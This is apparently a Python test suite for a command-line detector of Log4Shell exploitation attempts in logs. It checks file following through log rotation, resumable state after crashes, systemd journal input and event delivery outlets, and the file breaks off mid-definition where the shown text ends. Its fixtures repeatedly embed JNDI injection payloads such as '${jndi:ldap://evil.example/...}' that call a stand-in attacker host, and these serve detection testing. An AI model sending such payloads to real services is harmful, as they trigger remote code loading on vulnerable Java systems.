"""--follow, --state, --journal-dir and --to: nothing lost through rotation and kills, duplicates with one id."""
import collections
import gzip
import json
import os
import pathlib
import random
import resource
import select
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
import unittest

import cli_case
from cli_case import Case, attack, line

REMOTE = "/lib/systemd/systemd-journal-remote"


class Following(Case):
    def append(self, name, text):
        with open(self.path(name), "a") as f:
            f.write(text)

    def test_rename_and_create(self):
        log = self.write("a.log", attack(0))
        f = self.follow(log)
        self.append("a.log", attack(1))
        f.await_paths("/n1")
        os.rename(log, log + ".1")
        self.append("a.log.1", attack(2))  # a writer that has not noticed
        self.append("a.log", attack(3))
        f.await_paths("/n1", "/n2", "/n3")
        self.assertEqual(f.stop(), 1)
        self.assertEqual(sorted(f.paths()), ["/n1", "/n2", "/n3"])  # not what was there before
        # the same ids and lines as a run over the files gives
        seen = {e["event"]["id"]: e["caltrop"]["line"] for e in f.events}
        os.rename(log, log + ".new")
        os.rename(log + ".1", log)
        whole = {e["event"]["id"]: e["caltrop"]["line"] for e in self.events(log)}
        self.assertEqual(len(set(seen) & set(whole)), 2)
        for known in set(seen) & set(whole):
            self.assertEqual(seen[known], whole[known])

    def test_copytruncate_truncation_and_late_creation(self):
        log = self.write("a.log", line(0) * 50)
        f = self.follow(log, self.path("late.log"))
        self.append("a.log", attack(1))
        f.await_paths("/n1")
        shutil.copy(log, log + ".1")
        os.truncate(log, 0)
        self.append("a.log", attack(2))
        f.await_paths("/n2")
        self.write("late.log", attack(3))
        f.await_paths("/n3")
        self.assertEqual(f.stop(signal.SIGTERM), 1)
        self.assertEqual(sorted(f.paths()), ["/n1", "/n2", "/n3"])

    def test_formats_with_state(self):
        head = "#Version: 1.0\n#Fields: date time c-ip cs(User-Agent) cs-uri-stem sc-status\n"
        text = "2021-12-10 14:%02d:00 192.0.2.1 ${jndi:ldap://evil.example/n%d} / 404\n"
        log = self.write("u_ex.log", head + text % (0, 0) * 3)
        f = self.follow(log)
        self.append("u_ex.log", text % (1, 1))
        f.await_paths("/n1")
        self.assertEqual(f.events[0]["caltrop"]["format"], "w3c")
        self.assertEqual(f.events[0]["@timestamp"], "2021-12-10T14:01:00Z")
        self.assertEqual(f.events[0]["source"]["ip"], "192.0.2.1")
        self.append("u_ex.log", "#Fields: c-ip date time sc-status cs(User-Agent)\n192.0.2.7 2021-12-10 14:02:00 200 ${jndi:ldap://evil.example/n2}\n")
        f.await_paths("/n2")
        self.assertEqual(f.events[1]["source"]["ip"], "192.0.2.7")
        os.rename(log, log + ".1")
        self.write("u_ex.log", "#Fields: time date c-ip cs(Referer)\n14:03:00 2021-12-10 192.0.2.8 ${jndi:ldap://evil.example/n3}\n")
        f.await_paths("/n3")
        self.assertEqual(f.events[2]["source"]["ip"], "192.0.2.8")
        self.assertEqual(f.stop(), 1)

    def test_folders_without_what_was_rotated(self):
        self.write("logs/a.log", attack(1))
        self.write("logs/a.log.1", attack(2))
        self.write("logs/a.log.2.gz", gzip.compress(attack(3).encode()))
        f = self.follow(self.path("logs"))
        os.rename(self.path("logs/a.log.1"), self.path("logs/a.log.9"))
        os.rename(self.path("logs/a.log"), self.path("logs/a.log.1"))
        self.append("logs/a.log", attack(4))
        f.await_paths("/n4")
        self.assertEqual(f.stop(), 1)
        self.assertEqual(f.paths(), ["/n4"])

    def test_logs_that_come_later(self):
        """Names with a date (Tomcat, IIS), a host added, a folder added: each is read from its start, and nothing twice."""
        dated = "logs/localhost_access.2021-12-%02d.txt"
        self.write(dated % 8, attack(90))
        self.write(dated % 9, attack(91))
        self.write("logs/shop.log", attack(92) * 20)
        f = self.follow(self.path("logs"), self.path("later/*.log"))
        f.await_message("later/*.log: no file matches yet")
        self.append(dated % 9, attack(1))
        f.await_paths("/n1")
        self.append(dated % 10, attack(2) + attack(3))
        self.append("logs/u_ex211210.log", attack(4))
        os.mkdir(self.path("logs/new"))
        self.append("logs/new/host.log", attack(5))
        os.mkdir(self.path("later"))
        self.append("later/x.log", attack(6))
        f.await_paths(*("/n%d" % n for n in range(1, 7)))
        self.append(dated % 10, attack(7))
        os.rename(self.path("logs/shop.log"), self.path("logs/shop.log.old"))  # no name that a rotation is known by
        self.append("logs/shop.log.old", attack(8))
        self.append("logs/shop.log", attack(9))
        f.await_paths("/n7", "/n8", "/n9")
        shutil.copy(self.path(dated % 10), self.path(dated % 10 + "-saved"))  # copied, then cut
        os.truncate(self.path(dated % 10), 0)
        os.rename(self.path("logs/u_ex211210.log"), self.path("logs/u_ex211210.log.1"))
        self.write("logs/packed.log", gzip.compress(attack(93).encode()))
        self.append("later/y.log", attack(10))
        f.await_paths("/n10")
        self.append("later/z.log", attack(11))  # all of the above was looked at when this one is found
        f.await_paths("/n11")
        self.assertEqual(f.stop(), 1)
        self.assertEqual(sorted(f.paths()), sorted("/n%d" % n for n in range(1, 12)))

    def test_a_new_day_while_nobody_followed(self):
        dated, state = "logs/access.2021-12-%02d.log", self.path("state")
        self.write(dated % 9, attack(90))
        self.write(dated % 10, attack(91))
        f = self.follow("--state", state, self.path("logs"))
        self.append(dated % 10, attack(1))
        f.await_paths("/n1")
        f.stop()
        self.append(dated % 10, attack(2))
        self.append(dated % 11, attack(3))
        self.append(dated % 12, attack(4))
        f = self.follow("--state", state, self.path("logs"))
        f.await_paths("/n2", "/n3", "/n4")
        self.assertEqual(f.stop(), 1)
        self.assertEqual(sorted(f.paths()), ["/n2", "/n3", "/n4"])

    def test_following_on_a_terminal_is_watching(self):
        log = self.write("a.log", line())
        child = self.start("detect", "--follow", log, self.path("typo.log"))
        self.assertEqual(child.stderr.readline(), ("caltrop: %s: is not there yet: it is followed when it appears\n" % self.path("typo.log")).encode())
        self.await_that(lambda: any(os.path.realpath("/proc/%d/fd/%s" % (child.pid, fd)) == log for fd in os.listdir("/proc/%d/fd" % child.pid)), "the log")
        while True:  # it starts at the end, wherever that is when it is opened
            self.append("a.log", attack(1))
            if select.select([child.stdout], [], [], 0.1)[0]:
                break
        self.assertIn(b"exploit  would fire on 2.0-beta9-2.14.1", child.stdout.readline())
        child.send_signal(signal.SIGINT)
        out, _ = child.communicate(timeout=cli_case.DEADLINE)
        self.assertEqual(child.returncode, 1)
        self.assertIn(b"from 1 source", out)  # the other one never came

    def test_callbacks_are_written_as_they_come(self):
        log, out = self.write("a.log", ""), self.write("callbacks", "# callback targets of exploitation attempts: scheme, host or address, port\nldap\told.example\t1389\n")
        f = self.follow("--indicators", out, log)
        for n in (1, 2, 1):
            self.append("a.log", attack(n, "h%d.example" % n))
        f.await_paths("/n1", "/n2")
        self.await_that(lambda: len((self.dir / "callbacks").read_text().splitlines()) == 3, "the callbacks")
        f.kill()
        with open(out) as text:
            self.assertEqual(text.read().split("\n")[1:], ["ldap\th1.example\t1389", "ldap\th2.example\t1389", ""])

    def test_what_cannot_be_followed_is_said(self):
        packed = self.write("a.log.gz", gzip.compress(attack(1).encode()))
        done = self.run_cli("detect", "--follow", packed, status=3)  # its bytes are no lines: nothing would ever be found in it
        self.assertIn(b"is compressed and does not grow line by line: read it without --follow", done.stderr)
        wide = self.write("a.wide.log", ("\ufeff" + attack(1)).encode("utf-16-le"))
        done = self.run_cli("detect", "--follow", wide, status=3)
        self.assertIn(b"is UTF-16, which is not followed: read it without --follow", done.stderr)
        os.mkfifo(self.path("fifo"))
        log = self.write("a.log", "")
        f = self.follow(self.path("fifo"), log)
        f.await_message("fifo: cannot be followed")
        self.append("a.log", attack(1))
        f.await_paths("/n1")
        self.assertEqual(f.stop(), 3)
        for args in (["--follow"], ["--follow", "-"], ["--follow", "--output", "sarif", log]):
            self.run_cli("detect", *args, status=2)

    def test_a_line_in_pieces_and_a_longer_one(self):
        log = self.write("a.log", "")
        f = self.follow(log)
        text = attack(1)
        self.append("a.log", text[:80])
        self.append("a.log", text[80:])
        f.await_paths("/n1")
        self.append("a.log", "a" * (256 * 1024 - 10) + "${jndi:ldap://evil.example/cut}" + "b" * 300_000 + "\n" + attack(2))
        f.await_paths("/cut", "/n2")
        self.assertEqual(f.stop(), 1)
        self.assertEqual([e["caltrop"]["line"] for e in f.events if e["caltrop"]["indicators"][0]["path"] == "/n2"], [3])


class State(Case):
    def setUp(self):
        super().setUp()
        self.log = self.path("logs/a.log")
        self.state = self.path("state")
        self.written, self.seen = [], collections.Counter()
        os.mkdir(self.path("logs"))

    def append(self, n):
        with open(self.log, "a") as f:
            f.write(attack(n))
        self.written.append("/n%d" % n)

    def cron(self, status=None, *args):
        found = []
        for e in self.events("--state", self.state, *args, self.log, status=status):
            self.seen[e["event"]["id"]] += 1
            found.append(e["caltrop"]["indicators"][0]["path"])
        return found

    def test_cron_through_every_rotation(self):
        self.append(1)
        self.assertEqual(self.cron(1), ["/n1"])
        self.assertEqual(self.cron(0), [])
        self.append(2)
        os.rename(self.log, self.log + ".1")
        self.append(3)
        self.assertEqual(self.cron(1), ["/n2", "/n3"])
        self.append(4)
        with open(self.log, "rb") as f:  # rotated and compressed at once
            self.write("logs/a.log.1.gz", gzip.compress(f.read()))
        os.remove(self.log + ".1")
        os.remove(self.log)
        self.append(5)
        self.assertEqual(self.cron(1), ["/n4", "/n5"])
        self.append(6)  # copied and cut
        shutil.copy(self.log, self.log + ".1")
        os.remove(self.log + ".1.gz")
        os.truncate(self.log, 0)
        self.append(7)
        self.assertEqual(self.cron(1), ["/n6", "/n7"])
        self.append(8)  # twice between two runs
        os.rename(self.log + ".1", self.log + ".3")
        os.rename(self.log, self.log + ".2")
        self.append(9)
        os.rename(self.log, self.log + ".1")
        self.append(10)
        self.assertEqual(self.cron(1), ["/n8", "/n9", "/n10"])
        self.assertEqual(set(self.seen.values()), {1})

    def test_a_folder_through_every_rotation(self):
        """Each name in it has a position of its own, and what one name's file was is another's next time: nothing comes twice."""
        def cron():
            events = self.events("--state", self.state, self.path("logs"))
            self.seen.update(e["event"]["id"] for e in events)
            return sorted(e["caltrop"]["indicators"][0]["path"] for e in events)
        self.append(1)
        self.assertEqual(cron(), ["/n1"])
        self.append(2)
        os.rename(self.log, self.log + ".1")
        self.append(3)
        self.assertEqual(cron(), ["/n2", "/n3"])
        self.append(4)
        subprocess.run(["gzip", self.log + ".1"], check=True)
        os.rename(self.log + ".1.gz", self.log + ".2.gz")
        os.rename(self.log, self.log + ".1")
        self.append(5)
        self.assertEqual(cron(), ["/n4", "/n5"])
        self.append(6)
        os.rename(self.log + ".1", self.log + "-20211209")
        os.rename(self.log, self.log + "-20211210")
        self.append(7)
        self.assertEqual(cron(), ["/n6", "/n7"])
        self.append(8)
        shutil.copy(self.log, self.log + "-20211211")
        os.truncate(self.log, 0)
        self.append(9)
        self.assertEqual(cron(), ["/n8", "/n9"])
        self.assertEqual(cron(), [])
        self.assertEqual(set(self.seen.values()), {1})

    def test_what_was_packed_is_read_once(self):
        """A compressed log that was read to its end is not decompressed again, under any name."""
        packed = self.log + ".2.gz"
        lines = [line(k) for k in range(20000)] + [attack(1)]  # more than the first MiB, which tells the format
        data = bytearray(gzip.compress("".join(lines).encode()))

        def cron(status):
            return [e["caltrop"]["indicators"][0]["path"] for e in self.events("--state", self.state, self.path("logs"), status=status)]
        whole, data[-6] = bytes(data), data[-6] ^ 1  # its checksum is wrong: who reads to the end complains
        self.write("logs/a.log.2.gz", bytes(data))
        self.assertEqual(cron(3), ["/n1"])
        self.assertEqual(cron(3), [])  # it may be mended
        with open(packed, "r+b") as f:
            f.write(whole)
        self.assertEqual(cron(0), [])  # to its end
        with open(packed, "r+b") as f:
            f.write(data)
        self.assertEqual(cron(0), [])
        os.rename(packed, self.log + ".3.gz")
        self.assertEqual(cron(0), [])
        with open(self.log + ".3.gz", "r+b") as f:
            f.write(whole + gzip.compress(attack(2).encode()))
        self.assertEqual(cron(3), ["/n1", "/n2"])  # of another size it is another file
        self.assertEqual(cron(0), [])

    def killed(self, n, at):
        """A run over the folder that dies at its n-th event; what a receiver has of it."""
        child = self.start("detect", "-q", "--json", "--state", self.state, self.path("logs"), stderr=subprocess.DEVNULL)
        for _ in range(n):
            text = child.stdout.readline()
            if not text:  # it came to its end
                break
            e = json.loads(text)
            at.setdefault(e["caltrop"]["indicators"][0]["path"], set()).add(e["event"]["id"])
        child.kill()
        child.wait()

    def test_a_log_first_seen_empty_is_known_again(self):
        ids = {}
        with open(self.log, "w"):
            pass
        self.assertEqual(self.events("--state", self.state, self.path("logs"), status=0), [])
        for n in range(1000):
            self.append(n)
        self.killed(100, ids)
        shutil.copy(self.log, self.log + ".1")
        os.truncate(self.log, 0)
        for e in self.events("--state", self.state, self.path("logs"), status=1):
            ids.setdefault(e["caltrop"]["indicators"][0]["path"], set()).add(e["event"]["id"])
        self.assertEqual((len(ids), {p: len(i) for p, i in ids.items() if len(i) > 1}), (1000, {}))

    def test_a_folder_killed_and_rotated(self):
        """What a killed run told of a log has the same ids when the next runs meet it under the names that rotation gave it."""
        ids, logs = {}, self.path("logs")
        rotations = [
            lambda: os.rename(self.log, self.log + ".1"),
            lambda: (os.rename(self.log + ".1", self.log + ".2"), os.rename(self.log, self.log + ".1")),
            lambda: (subprocess.run(["gzip", self.log + ".2"], check=True), os.rename(self.log + ".2.gz", self.log + ".3.gz"),
                     os.rename(self.log + ".1", self.log + ".2"), os.rename(self.log, self.log + ".1")),
            lambda: os.rename(self.log, self.log + ".before-the-upgrade"),
            lambda: (shutil.copy(self.log, self.log + "-20211211"), os.truncate(self.log, 0)),
            lambda: (shutil.copy(self.log, self.path("logs/saved")), os.truncate(self.log, 0)),
        ]
        n = 0
        for rotate in rotations:
            for _ in range(1000):
                self.append(n)
                n += 1
            self.killed(300, ids)
            rotate()
        self.append(n)
        for e in self.events("--state", self.state, logs):
            ids.setdefault(e["caltrop"]["indicators"][0]["path"], set()).add(e["event"]["id"])
        self.assertEqual(sorted(set(self.written) - set(ids)), [])
        self.assertEqual({p: len(i) for p, i in ids.items() if len(i) > 1}, {})
        self.assertEqual(self.events("--state", self.state, logs), [])

    def test_a_folder_at_random(self):
        """Logs of a folder that rotation renames, packs, copies, cuts and at last removes, between runs that are killed or not."""
        seed = int(os.environ.get("CT_SEED") or random.randrange(1 << 32))
        print("seed %d" % seed, file=sys.stderr)
        lot, ids, n, logs = random.Random(seed), {}, 0, self.path("logs")
        banner = "".join(line(k) for k in range(4)) if lot.random() < 0.5 else ""  # over 256 bytes: all begin alike

        def run(status=None):
            for e in self.events("--state", self.state, logs, status=status):
                ids.setdefault(e["caltrop"]["indicators"][0]["path"], set()).add(e["event"]["id"])

        def shift():
            for k in range(4, 0, -1):
                for end in "", ".gz":
                    if os.path.exists("%s.%d%s" % (self.log, k, end)):
                        os.rename("%s.%d%s" % (self.log, k, end), "%s.%d%s" % (self.log, k + 1, end))
        for round_ in range(25):
            for _ in range(lot.randrange(1, 120)):
                with open(self.log, "a") as f:
                    f.write(attack(n) if f.tell() else banner + attack(n))
                self.written.append("/n%d" % n)
                n += 1
            if lot.random() < 0.5:
                self.killed(lot.randrange(1, 5), ids)
            else:
                run(status=1)  # nothing is said to be gone
            how = lot.randrange(6)
            if banner and how in (1, 2):
                run()  # of two files that begin alike, and of which nothing was read, none is the other's copy for sure
            if how == 0:
                os.rename(self.log, self.log + "-202112%02d" % (round_ + 1))
            elif how == 1:
                shutil.copy(self.log, self.log + "-202112%02d" % (round_ + 1))
                os.truncate(self.log, 0)
            elif how == 2:
                shutil.copy(self.log, self.path("logs/saved%d" % round_))
                os.truncate(self.log, 0)
            elif how == 3:
                os.rename(self.log, self.path("logs/moved%d" % round_))
            elif how == 4:
                shift()
                os.rename(self.log, self.log + ".1")
                if os.path.exists(self.log + ".2") and lot.random() < 0.7:
                    subprocess.run(["gzip", self.log + ".2"], check=True)
                if lot.random() < 0.8:
                    run()  # nothing is unread
                    for k in range(lot.randrange(2, 5), 6):
                        subprocess.run(["rm", "-f", "%s.%d" % (self.log, k), "%s.%d.gz" % (self.log, k)], check=True)
        run()
        self.assertEqual(sorted(set(self.written) - set(ids)), [])
        self.assertEqual({p: len(i) for p, i in ids.items() if len(i) > 1}, {})

    def test_a_log_that_is_gone_is_said(self):
        self.append(1)
        self.assertEqual(self.cron(1), ["/n1"])
        self.append(2)
        os.remove(self.log)
        self.append(3)
        self.assertEqual(self.cron(3), ["/n3"])
        done = self.run_cli("detect", "--state", self.state, self.log, status=0)  # once: it is known now
        self.assertNotIn(b"is gone", done.stderr)
        self.append(4)
        os.truncate(self.log, 0)
        self.append(5)
        done = self.run_cli("detect", "-q", "--json", "--state", self.state, self.log, status=3)
        self.assertIn(b"is gone or was cut", done.stderr)
        self.assertIn(b"/n5", done.stdout)

    def test_an_unfinished_line_waits(self):
        text = attack(1)
        with open(self.log, "w") as f:
            f.write(line(0) + text[:90])
        self.assertEqual(self.cron(0), [])
        with open(self.log, "a") as f:
            f.write(text[90:])
        self.assertEqual(self.cron(1), ["/n1"])

    def test_an_unfinished_line_that_nobody_finishes(self):
        """Of a log rotated a minute ago, of a log silent for a day: it is told, once."""
        text, now, logs = attack(1)[:-1], time.time(), self.path("logs")
        for name, age, told in (("b.log", 86_000, 0), ("c.log", 87_000, 1), ("d.log.1", 30, 0), ("d.log.2", 90, 1)):
            os.utime(self.write("logs/" + name, text), (now - age, now - age))
            self.assertEqual(len(self.events("--state", self.state, logs)), told, name)
        with open(self.log, "w") as f:
            f.write(line(0) + text)
        self.assertEqual(self.events("--state", self.state, logs), [])
        os.rename(self.log, self.path("logs/away"))
        os.utime(self.path("logs/away"), (now - 90, now - 90))
        event, = self.events("--state", self.state, logs)
        self.assertEqual(event["log"]["file"]["path"], self.log)
        self.assertEqual(self.events("--state", self.state, logs), [])

    def test_columns_named_before(self):
        with open(self.log, "w") as f:
            f.write("#Fields: date time c-ip cs(User-Agent)\n" + "2021-12-10 14:00:00 192.0.2.1 Mozilla\n" * 20_000)
        self.assertEqual(self.cron(0), [])
        with open(self.log, "a") as f:
            f.write("2021-12-10 14:05:00 192.0.2.9 ${jndi:ldap://evil.example/a}\n")
        event, = self.events("--state", self.state, self.log, status=1)
        self.assertEqual((event["source"]["ip"], event["caltrop"]["line"]), ("192.0.2.9", 20_002))

    def test_one_at_a_time_and_foreign_files(self):
        self.append(1)
        f = self.follow("--state", self.state, self.log)
        done = self.run_cli("detect", "--state", self.state, self.log, status=4)
        self.assertEqual(done.stderr, b"caltrop: --state %s: state file is in use by another process\n" % self.state.encode())
        self.assertEqual(done.stdout, b"")
        f.stop()
        foreign = self.write("foreign", "something else\n")
        done = self.run_cli("detect", "--state", foreign, self.log, status=4)
        self.assertIn(b"--state " + foreign.encode(), done.stderr)
        self.assertEqual((self.dir / "foreign").read_text(), "something else\n")

    def test_killed_at_any_moment(self):
        """A writer, a rotator and a reader that dies: at least once, and duplicates have one id."""
        seed = random.randrange(1 << 32)
        print("seed %d" % seed, file=sys.stderr)
        lot = random.Random(seed)
        by_id, n = {}, 1
        self.append(0)
        with open(self.path("out"), "wb") as out:  # a run killed before it could begin knows of nothing
            self.run_cli("detect", "-q", "--json", "--state", self.state, self.log, stdout=out)
        with open(self.path("out"), "ab") as out:
            for round_ in range(12):
                for _ in range(lot.randrange(300, 1500)):
                    self.append(n)
                    n += 1
                child = self.start("detect", "-q", "--json", "-j", 2, "--state", self.state, self.log, stdout=out, stderr=subprocess.DEVNULL)
                # At a random event of its output, or of its life.
                size, more = os.path.getsize(self.path("out")), lot.randrange(0, 400_000)
                self.await_that(lambda c=child: c.poll() is not None or os.path.getsize(self.path("out")) - size >= more, "output")
                child.kill()
                child.wait()
                with open(self.path("out"), "rb") as f:
                    whole = f.read().rpartition(b"\n")[0] + b"\n"
                os.truncate(self.path("out"), len(whole) if len(whole) > 1 else 0)  # a receiver drops a torn line
                if lot.random() < 0.5:
                    for k in range(20, 0, -1):
                        if os.path.exists("%s.%d" % (self.log, k)):
                            os.rename("%s.%d" % (self.log, k), "%s.%d" % (self.log, k + 1))
                    os.rename(self.log, self.log + ".1")
                    self.append(n)
                    n += 1
            self.run_cli("detect", "-q", "--json", "--state", self.state, self.log, stdout=out)
        lines = collections.Counter()
        with open(self.path("out"), "rb") as f:
            for text in f:
                e = json.loads(text)
                path = e["caltrop"]["indicators"][0]["path"]
                self.assertEqual(by_id.setdefault(e["event"]["id"], path), path)
                lines[path] += 1
        self.assertEqual(sorted(set(self.written) - set(lines))[:20], [])
        self.assertEqual(len(by_id), len(self.written))  # duplicates merge

    def test_a_full_disk_ends_no_following(self):
        self.append(0)
        f = self.follow("--state", self.state, self.log)
        hard = resource.prlimit(f.child.pid, resource.RLIMIT_FSIZE)[1]
        resource.prlimit(f.child.pid, resource.RLIMIT_FSIZE, (16, hard))
        self.append(1)
        f.await_paths("/n1")
        f.await_message("following goes on, and after a restart attempts may come again")
        self.append(2)
        f.await_paths("/n2")
        before = pathlib.Path(self.state).read_text()
        resource.prlimit(f.child.pid, resource.RLIMIT_FSIZE, (hard, hard))
        self.await_that(lambda: pathlib.Path(self.state).read_text() != before, "the state")
        self.assertEqual(f.stop(), 1)
        self.assertEqual(len([m for m in f.messages if "--state" in m]), 1)  # told once, not each second
        f = self.follow("--state", self.state, self.log)
        resource.prlimit(f.child.pid, resource.RLIMIT_FSIZE, (16, hard))
        self.append(3)
        f.await_paths("/n3")
        self.assertEqual(f.stop(), 4)
        self.assertIn("the next run repeats what came since", f.messages[-1])
        self.assertEqual(self.cron(1), ["/n3"])

    def test_a_full_disk_ends_no_reading(self):
        logs = [self.write("logs/%s.log" % name, line() * 3 + attack(n)) for n, name in enumerate("bcd")]

        def small(args, size, status):
            hard = resource.getrlimit(resource.RLIMIT_FSIZE)[1]
            return self.run_cli("detect", "--state", self.state, *args, status=status, preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_FSIZE, (size, hard)))
        done = small(["-q", "--json", *logs], 16, 4)
        self.assertEqual([json.loads(e)["caltrop"]["indicators"][0]["path"] for e in done.stdout.splitlines()], ["/n0", "/n1", "/n2"])
        said = done.stderr.decode().splitlines()
        self.assertEqual([m.rpartition(": ")[2] for m in said], ["File too large; reading goes on", "the next run repeats what came since"])
        self.assertNotIn(b"NOT READ", small(logs, 16, 4).stdout)  # the answer is whole
        small(logs, 1 << 20, 1)
        small(logs, 1 << 20, 0)

    def test_a_quiet_log_has_a_position_too(self):
        self.append(0)
        other = self.write("logs/b.log", line() * 3)
        for number in (signal.SIGINT, signal.SIGKILL):
            self.follow("--state", self.state, self.log, other).stop(number)
            with open(other, "a") as f:
                f.write(attack(int(number)))
            f = self.follow("--state", self.state, self.log, other)
            f.await_paths("/n%d" % number)
            f.stop()
            self.assertEqual(f.paths(), ["/n%d" % number])

    def test_follow_goes_on_where_it_was_killed(self):
        self.append(0)
        f = self.follow("--state", self.state, self.log)
        self.append(1)
        f.await_paths("/n1")
        self.assertEqual(f.stop(), 1)
        self.append(2)
        os.rename(self.log, self.log + ".1")
        self.append(3)
        f = self.follow("--state", self.state, self.log)
        f.await_paths("/n2", "/n3")
        f.kill()
        self.append(4)
        f = self.follow("--state", self.state, self.log)
        f.await_paths("/n4")
        f.stop()
        self.assertNotIn("/n1", f.paths())


@unittest.skipUnless(os.path.exists(REMOTE), "systemd-journal-remote is not installed")
class Journal(Case):
    def export(self, count, first=0):
        text = b""
        for n in range(first, first + count):
            fields = {"__REALTIME_TIMESTAMP": str(1639144800000000 + n * 1000000), "__MONOTONIC_TIMESTAMP": str(n + 1),
                      "_BOOT_ID": "0123456789abcdef0123456789abcdef", "PRIORITY": "6", "_SYSTEMD_UNIT": "shop.service",
                      "MESSAGE": "login of ${jndi:ldap://evil.example/n%d} failed" % n if n % 3 == 0 else "all is well %d" % n}
            text += "".join("%s=%s\n" % item for item in fields.items()).encode() + b"\n"
        return text

    def make(self, name, data):
        os.makedirs(self.path("journal"), exist_ok=True)
        subprocess.run([REMOTE, "--output=" + self.path("journal/" + name), "-"], input=data, check=True, stdout=subprocess.DEVNULL,
                       stderr=subprocess.DEVNULL, timeout=cli_case.DEADLINE)

    def test_entries_and_cursor(self):
        self.make("a.journal", self.export(10))
        directory = self.path("journal")
        events = self.events("--journal-dir", directory, status=1)
        self.assertEqual([e["caltrop"]["indicators"][0]["path"] for e in events], ["/n0", "/n3", "/n6", "/n9"])
        self.assertEqual(events[1]["caltrop"]["source"], "journal:shop.service")
        self.assertEqual(events[1]["@timestamp"], "2021-12-10T14:00:03Z")
        self.assertNotIn("log", events[1])
        ids = [e["event"]["id"] for e in events]
        state = self.path("state")
        self.assertEqual([e["event"]["id"] for e in self.events("--state", state, "--journal-dir", directory, status=1)], ids)
        self.assertEqual(self.events("--state", state, "--journal-dir", directory, status=0), [])
        self.make("b.journal", self.export(4, first=12))
        more = self.events("--state", state, "--journal-dir", directory, status=1)
        self.assertEqual([e["caltrop"]["indicators"][0]["path"] for e in more], ["/n12", "/n15"])
        whole = self.events("--journal-dir", directory, "--since", "2021-12-10T14:00:06Z", "--until", "2021-12-10T14:00:12Z", status=1)
        self.assertEqual([e["event"]["id"] for e in whole], ids[2:])

    def test_together_with_files_and_followed(self):
        self.make("a.journal", self.export(1))
        log = self.write("a.log", attack(50))
        events = self.events("--journal-dir", self.path("journal"), log, status=1)
        self.assertEqual([e["caltrop"]["indicators"][0]["path"] for e in events], ["/n0", "/n50"])
        f = self.follow("--journal-dir", self.path("journal"), log)
        f.await_paths("/n0")
        self.make("b.journal", self.export(1, first=3))
        f.await_paths("/n3")
        with open(log, "a") as to:
            to.write(attack(51))
        f.await_paths("/n51")
        self.assertEqual(f.stop(), 1)
        done = self.run_cli("detect", "--journal-dir", self.path("nowhere"), status=3)
        self.assertIn(b"nowhere", done.stderr)

    def test_a_host_without_the_library(self):
        """What the loader finds first is none: the program starts, and says what it lacks where a journal is asked for."""
        self.make("a.journal", self.export(1))
        self.write("lib/libsystemd.so.0", "no library")
        env = {**self.env, "LD_LIBRARY_PATH": self.path("lib")}
        log = self.write("a.log", attack(50))
        self.assertEqual([e["caltrop"]["indicators"][0]["path"] for e in self.events(log, status=1, env=env)], ["/n50"])
        done = self.run_cli("detect", "--journal-dir", self.path("journal"), log, status=3, env=env)
        self.assertIn(b"/n50", done.stdout)
        self.assertIn(b"install libsystemd", done.stderr)
        self.assertIn(b"journalctl -o cat", done.stderr)


class Outlets(Case):
    def setUp(self):
        super().setUp()
        self.log = self.write("a.log", "")

    def append(self, *numbers, host="evil.example"):
        with open(self.log, "a") as f:
            f.write("".join(line(n, "${jndi:ldap://%s/a}" % host) for n in numbers))

    def sent(self):
        if not os.path.exists(self.path("out")):
            return []
        with open(self.path("out")) as f:
            return [json.loads(text) for text in f.read().split("\n")[:-1]]

    def test_first_sight_at_once_then_counted(self):
        f = self.follow("--to", "file:" + self.path("out"), self.log)
        self.append(1)
        self.await_that(lambda: len(self.sent()) == 1, "the first sight")
        self.assertEqual(self.sent()[0]["caltrop"]["repeats"], 1)
        self.append(*range(2, 500))
        self.append(501, host="other.example")
        self.await_that(lambda: len(f.paths()) == 500, "all events")
        self.await_that(lambda: len(self.sent()) == 2, "the second campaign")
        f.stop()
        sent = self.sent()
        self.assertEqual([s["caltrop"]["repeats"] for s in sent], [1, 1, 498])
        self.assertEqual(sent[-1]["caltrop"]["repeats_total"], 499)

    def test_udp_syslog_and_unix(self):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp, socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as unix:
            udp.bind(("127.0.0.1", 0))
            udp.settimeout(cli_case.DEADLINE)
            unix.bind(self.path("sock"))
            unix.listen()
            unix.settimeout(cli_case.DEADLINE)
            f = self.follow("--to", "syslog:127.0.0.1:%d" % udp.getsockname()[1], "--to", "unix:" + self.path("sock"), self.log)
            self.append(1)
            message = udp.recv(65536)
            self.assertTrue(message.startswith(b"<"))
            self.assertNotIn(b"${", message)
            self.assertEqual(json.loads(message[message.index(b"{"):])["caltrop"]["grade"], "exploit")
            peer, _ = unix.accept()
            with peer, peer.makefile() as lines:
                self.assertEqual(json.loads(lines.readline())["caltrop"]["grade"], "exploit")
                f.stop()

    def test_https_with_token(self):
        sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../outlet"))
        import harness
        certificates = harness.Certificates()
        self.addCleanup(certificates.remove)
        server = harness.Server(certificates.leaf("one", "IP:127.0.0.1"))
        self.addCleanup(server.close)
        token = self.write("token", "s3cret\n")
        f = self.follow("--to", "https://127.0.0.1:%d/in" % server.port, "--ca-file", certificates.ca, "--token-file", token, self.log)
        self.append(1)
        server.wait(lambda s: len(s.requests) == 1)
        self.assertEqual(server.requests[0].headers["authorization"], "Bearer s3cret")
        self.assertEqual(json.loads(server.requests[0].body)["caltrop"]["grade"], "exploit")
        f.stop()

    def test_a_dead_outlet_delays_nothing_and_is_told(self):
        with socket.socket() as s:
            s.bind(("127.0.0.1", 0))
            port = s.getsockname()[1]  # nobody listens there
        url = "http://127.0.0.1:%d/secret-path" % port
        f = self.follow("--to", url, self.log)
        self.append(1)
        f.await_paths("/a")
        f.await_message("events wait: ")
        self.append(2, host="other.example")
        self.await_that(lambda: len(f.paths()) == 2, "the second event")
        self.assertEqual(f.stop(), 1)
        told = [m for m in f.messages if "wait for the next run" in m]
        self.assertEqual(len(told), 1, f.messages)
        self.assertIn("2 events could not be delivered yet", told[0])
        self.assertNotIn("secret-path", "".join(f.messages))
        # somebody listens now: what waited comes with the next run, which finds nothing new
        sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../outlet"))
        import harness
        server = harness.Server(port=port)
        self.addCleanup(server.close)
        done = self.run_cli("detect", "-q", "--to", url, self.write("empty.log", ""), status=0)
        self.assertEqual(done.stderr, b"")
        self.assertEqual(len(server.requests), 2)

    def test_what_neither_outlet_nor_disk_took_is_called_lost(self):
